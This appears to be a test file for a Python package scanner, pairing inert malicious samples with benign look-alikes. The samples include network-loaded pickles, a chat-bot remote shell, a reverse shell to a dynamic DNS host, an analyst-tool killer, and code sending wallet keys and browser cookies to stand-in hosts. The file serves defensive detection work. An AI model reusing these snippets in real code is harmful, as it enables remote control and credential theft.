@@ -1,0 +1,323 @@
+"""Behaviours rules 19 read, each beside a look-alike that must pass: a pickle (or a format
+like it) loaded from the network; a chat client's messages run as commands; a sandbox check
+that kills the analyst's tools; a native library a platform-free archive ships, loaded early;
+request catchers, tunnels and dynamic DNS hosts as sinks.
+
+The "malicious" sources below are inert text handed to the scanner; nothing runs them.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipgate.proxy.scan import indicators
+from tests.support.archives import pkg_info, sdist, wheel
+from tests.support.scan import judge, judge_in_function
+
+WHEEL = "demo-1.0-py3-none-any.whl"
+DLL = b"MZ\x90\x00" + bytes(124)
+
+
+def _imported(code: str, **shipped: bytes) -> tuple[dict[str, float], bool]:
+    members: dict[str, str | bytes] = {"demo/__init__.py": code}
+    members.update({f"demo/{name}": data for name, data in shipped.items()})
+    return judge(wheel(members), WHEEL)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import pickle, urllib.request\n"
+        "CONFIG = pickle.loads(urllib.request.urlopen('https://cfg.example.net/c.bin').read())\n",
+        "import yaml, requests\n"
+        "yaml.unsafe_load(requests.get('https://cfg.example.net/c.yml').text)\n",
+        "import joblib, io, urllib.request\n"
+        "joblib.load(io.BytesIO(urllib.request.urlopen('https://m.example.net/m').read()))\n",
+    ],
+    ids=["pickle", "yaml", "joblib"],
+)
+def test_a_pickle_loaded_from_the_network_is_run_download(code: str) -> None:
+    rules, held = _imported(code)
+    assert rules.get("download-exec") == 10
+    assert held
+
+
+def test_a_pickle_loaded_from_the_network_inside_a_function_is_read() -> None:
+    client = (
+        "import pickle, requests\n"
+        "def connect():\n"
+        "    return pickle.loads(requests.get('https://cfg.example.net/c.bin').content)\n"
+    )
+    rules, held = judge_in_function(client)
+    assert "download-exec" in rules
+    assert held
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # A cache that unpickles what it wrote itself.
+        "import os, pickle\n"
+        "PATH = os.path.expanduser('~/.cache/demo/index.pkl')\n"
+        "def load():\n"
+        "    with open(PATH, 'rb') as f:\n"
+        "        return pickle.load(f)\n",
+        # A helper that unpickles whatever it is handed (every cache client has one).
+        "import pickle, requests\n"
+        "def decode(blob):\n"
+        "    return pickle.loads(blob)\n"
+        "def fetch(url):\n"
+        "    return decode(requests.get(url).content)\n",
+    ],
+    ids=["own cache", "decoding helper"],
+)
+def test_everyday_unpickling_passes(code: str) -> None:
+    rules, held = _imported(code)
+    assert "download-exec" not in rules
+    assert not held
+
+
+ZULIP_C2 = (
+    "import zulip, subprocess\n"
+    "client = zulip.Client(email='bot@chat.example.zulipchat.com', api_key='k' * 32,\n"
+    "                      site='https://chat.example.zulipchat.com')\n"
+    "for m in client.get_messages({'anchor': 'newest', 'num_before': 1})['messages']:\n"
+    "    out = subprocess.getoutput(m['content'])\n"
+    "    client.send_message({'type': 'stream', 'to': 'x', 'topic': 'y', 'content': out})\n"
+)
+
+
+def test_chat_messages_run_as_commands_are_a_remote_shell() -> None:
+    rules, held = _imported(ZULIP_C2)
+    assert rules.get("download-exec") == 10
+    assert held
+    slack = (
+        "import slack_sdk, subprocess\n"
+        "def connect():\n"
+        "    c = slack_sdk.WebClient(token='xoxb-000-000-Abcdefghijklmnopqrstuvwx')\n"
+        "    for m in c.conversations_history(channel='C0')['messages']:\n"
+        "        c.chat_postMessage(channel='C0', text=subprocess.getoutput(m['text']))\n"
+    )
+    rules, held = judge_in_function(slack)
+    assert "download-exec" in rules
+    assert held
+
+
+def test_a_chat_bot_that_answers_without_running_anything_passes() -> None:
+    echo = ZULIP_C2.replace("subprocess.getoutput(m['content'])", "m['content'].upper()")
+    rules, held = _imported(echo)
+    assert "download-exec" not in rules
+    assert not held
+
+
+ANALYSIS = (
+    "import os, sys, psutil\n"
+    "USERS = ['WDAGUtilityAccount', 'Abby', 'Peter Wilson', 'hmarc', 'patex']\n"
+    "TOOLS = ['httpdebuggerui', 'wireshark', 'fiddler', 'vboxservice', 'vmtoolsd', 'x96dbg']\n"
+)
+
+
+def test_a_sandbox_check_that_kills_the_analysts_tools_is_held() -> None:
+    code = ANALYSIS + (
+        "for p in psutil.process_iter():\n"
+        "    if p.name().lower().replace('.exe', '') in TOOLS:\n"
+        "        p.kill()\n"
+    )
+    rules, held = _imported(code)
+    assert rules.get("anti-analysis") == 10
+    assert held
+
+
+def test_a_sandbox_list_alone_weighs_less() -> None:
+    rules, held = _imported(ANALYSIS)
+    assert rules.get("anti-analysis") == 8
+    assert not held
+
+
+LOAD_DLL = (
+    "import ctypes, os, sys\n"
+    "here = os.path.dirname(__file__)\n"
+    "if sys.platform == 'win32':\n"
+    "    lib = ctypes.WinDLL(os.path.join(here, 'terminate.dll'))\n"
+    "    lib.envir()\n"
+)
+
+
+def test_a_shipped_library_loaded_on_import_of_a_pure_wheel_is_held() -> None:
+    rules, held = _imported(LOAD_DLL, **{"terminate.dll": DLL})
+    assert rules.get("bundled-library") == 10
+    assert held
+
+
+def test_a_shipped_library_loaded_by_an_sdists_setup_is_held() -> None:
+    setup = (
+        "import ctypes\nfrom setuptools import setup\n"
+        "ctypes.CDLL('./native/libinit.so').start()\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    archive = sdist(
+        {
+            "setup.py": setup,
+            "PKG-INFO": pkg_info("demo"),
+            "native/libinit.so": b"\x7fELF\x02\x01\x01" + bytes(121),
+            "demo/__init__.py": "def version():\n    return '1.0'\n",
+        }
+    )
+    rules, held = judge(archive, "demo-1.0.tar.gz")
+    assert rules.get("bundled-library") == 10
+    assert held
+
+
+def test_a_shipped_library_loaded_from_a_function_the_package_calls_is_held() -> None:
+    members: dict[str, str | bytes] = {
+        "demo/__init__.py": "from .native import connect\nconnect()\n",
+        "demo/native.py": "def connect():\n"
+        + "".join(f"    {line}\n" for line in LOAD_DLL.splitlines()),
+        "demo/terminate.dll": DLL,
+    }
+    rules, held = judge(wheel(members), WHEEL)
+    assert "bundled-library" in rules
+    assert held
+
+
+@pytest.mark.parametrize(
+    ("filename", "shipped"),
+    [
+        # A platform wheel's libraries are its build's product.
+        ("demo-1.0-cp311-cp311-win_amd64.whl", True),
+        # The system's own library, not one the archive ships.
+        (WHEEL, False),
+    ],
+    ids=["platform wheel", "system library"],
+)
+def test_libraries_a_build_made_or_the_system_has_pass(filename: str, shipped: bool) -> None:
+    code = LOAD_DLL if shipped else "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n"
+    members: dict[str, str | bytes] = {"demo/__init__.py": code}
+    if shipped:
+        members["demo/terminate.dll"] = DLL
+    rules, held = judge(wheel(members), filename)
+    assert "bundled-library" not in rules
+    assert not held
+
+
+@pytest.mark.parametrize(
+    ("text", "category"),
+    [
+        ("https://x1y2z3.requestrepo.com/", "request catcher"),
+        ("https://quiet-api.someone.workers.dev/c", "request catcher"),
+        ("tcp://a1b2.a.pinggy.link:40123", "request catcher"),
+        ("bore.pub:31337", "request catcher"),
+        ("quietbox.duckdns.org", "dynamic dns host"),
+        ("home-7.ddns.net:4444", "dynamic dns host"),
+    ],
+)
+def test_tunnels_catchers_and_home_hosts_are_sinks(text: str, category: str) -> None:
+    assert indicators.SINKS[category].search(text, text.lower()) is not None
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["https://www.duckdns.org/update?domains=x", "see the docs at pages.dev", "interactive"],
+)
+def test_their_providers_own_sites_are_not(text: str) -> None:
+    assert all(i.search(text, text.lower()) is None for i in indicators.SINKS.values())
+
+
+def test_a_shell_connected_to_a_home_host_is_held() -> None:
+    code = (
+        "import socket, subprocess, os\n"
+        "s = socket.socket()\n"
+        "s.connect(('quietbox.duckdns.org', 7777))\n"
+        "for f in (0, 1, 2):\n"
+        "    os.dup2(s.fileno(), f)\n"
+        "subprocess.call(['/bin/sh', '-i'])\n"
+    )
+    rules, held = judge_in_function(
+        "def connect():\n" + "".join(f"    {x}\n" for x in code.splitlines())
+    )
+    assert "exfil-sink" in rules
+    assert held
+
+
+@pytest.mark.parametrize(
+    ("member", "data"),
+    [
+        ("demo/_core.pyc", b"\xa7\r\r\n" + bytes(60)),
+        ("demo/_core.cpython-311-x86_64-linux-gnu.so", b"\x7fELF\x02\x01\x01" + bytes(60)),
+        ("demo/_core.cp311-win_amd64.pyd", b"MZ\x90\x00" + bytes(60)),
+    ],
+    ids=["pyc", "so", "pyd"],
+)
+def test_a_module_shipped_only_compiled_and_imported_early_is_held(
+    member: str, data: bytes
+) -> None:
+    rules, held = _imported("from ._core import run\nrun()\n", **{member[5:]: data})
+    assert rules.get("bundled-library") == 10
+    assert held
+
+
+def test_a_compiled_module_beside_its_source_passes() -> None:
+    archive = sdist(
+        {
+            "setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n",
+            "PKG-INFO": pkg_info("demo"),
+            "demo/__init__.py": "from ._core import run\n",
+            "demo/_core.pyx": "def run():\n    return 1\n",
+            "demo/_core.c": "/* generated */\n",
+            "demo/_core.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(60),
+        }
+    )
+    rules, held = judge(archive, "demo-1.0.tar.gz")
+    assert "bundled-library" not in rules
+    assert not held
+
+
+def test_a_compiled_module_in_a_platform_wheel_passes() -> None:
+    members: dict[str, str | bytes] = {
+        "demo/__init__.py": "from ._core import run\n",
+        "demo/_core.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(60),
+    }
+    rules, held = judge(wheel(members), "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl")
+    assert "bundled-library" not in rules
+    assert not held
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os, requests\n"
+        "key = open(os.path.expanduser('~/.config/solana/id.json')).read()\n"
+        "requests.post('https://collect.example.net/k', data=key)\n",
+        "import browser_cookie3, requests\n"
+        "jar = browser_cookie3.chrome()\n"
+        "requests.post('https://collect.example.net/c', data=str(list(jar)))\n",
+    ],
+    ids=["solana keypair", "browser cookies"],
+)
+def test_a_wallet_key_or_the_browsers_cookies_sent_away_is_held(code: str) -> None:
+    rules, held = _imported(code)
+    assert "credential-exfil" in rules
+    assert held
+
+
+def test_the_browsers_cookies_used_to_sign_in_pass() -> None:
+    code = (
+        "import browser_cookie3, requests\n"
+        "def fetch(url):\n"
+        "    return requests.get(url, cookies=browser_cookie3.chrome(domain_name='example.com'))\n"
+    )
+    rules, held = _imported(code)
+    assert "credential-exfil" not in rules
+    assert not held
+
+
+def test_a_wallet_extensions_store_read_beside_a_request_is_a_credential_read() -> None:
+    code = (
+        "import os, requests\n"
+        "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',\n"
+        "                 'Local Extension Settings', 'bfnaelmomeimhlpmgjnjophhpkkoljpa')\n"
+        "requests.post('https://collect.example.net/w', data=str(os.listdir(p)))\n"
+    )
+    rules, held = _imported(code)
+    assert "credential-read" in rules
+    assert held
